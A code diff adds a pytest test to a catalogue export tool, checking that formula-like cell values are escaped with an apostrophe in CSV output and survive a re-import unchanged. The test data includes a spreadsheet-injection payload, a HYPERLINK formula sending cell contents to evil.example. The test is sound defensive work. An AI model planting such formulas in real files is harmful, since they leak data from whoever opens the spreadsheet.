@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+
 import openpyxl
 import pytest
 from click.testing import CliRunner
@@ -257,3 +259,46 @@ def test_export_from_the_command_line_needs_no_token_for_public_datasets(
     assert text[1].startswith(f"patch,{package['name']},{catalogue.editor_organization},")
     assert missing.exit_code == 2
     assert "dataset 'no-such-dataset' was not found" in missing.output
+
+
+def test_formula_like_text_exported_to_csv_runs_back_as_no_change(
+    catalogue, make_package, tmp_path
+):
+    admin = catalogue.client("admin")
+    package = make_package()
+    hostile = '=HYPERLINK("https://evil.example/?leak="&A1,"Details")'
+    admin.action.resource_create(
+        package_id=package["id"],
+        name="@SUM(1+1)",
+        url="https://example.com/m",
+        description=hostile,
+        **GEOGRAPHIC,
+    )
+    package = admin.action.package_show(id=package["id"])
+    path = tmp_path / "export.csv"
+
+    export_batch(editor(catalogue), path, packages=[package["name"]])
+    with path.open(encoding="utf-8-sig", newline="") as text:
+        heading, row = list(csv.reader(text))
+    cells = dict(zip(heading, row, strict=True))
+    # a spreadsheet opening the file shows these as text and runs nothing
+    assert cells["description"] == "'" + hostile and cells["name"] == "'@SUM(1+1)"
+    assert cells["geographic_extent.west_bound_longitude"] == "-139.06"  # still a number
+    result = run_batch(path, editor(catalogue))
+
+    assert result.problems == [] and [o.action for o in result.outcomes] == ["no change"]
+    after = admin.action.package_show(id=package["id"])
+    assert after["metadata_modified"] == package["metadata_modified"]
+
+    # an editor changes another cell and saves, the apostrophes as they were
+    cells["resource_update_cycle"] = "weekly"
+    with path.open("w", encoding="utf-8-sig", newline="") as text:
+        csv.writer(text).writerows([heading, [cells[h] for h in heading]])
+    result = run_batch(path, editor(catalogue))
+
+    assert [o.action for o in result.outcomes] == [
+        "patched resource '@SUM(1+1)': resource_update_cycle: 'monthly' -> 'weekly'"
+    ]
+    (saved,) = admin.action.package_show(id=package["id"])["resources"]
+    assert (saved["description"], saved["name"]) == (hostile, "@SUM(1+1)")
+    assert saved["resource_update_cycle"] == "weekly"
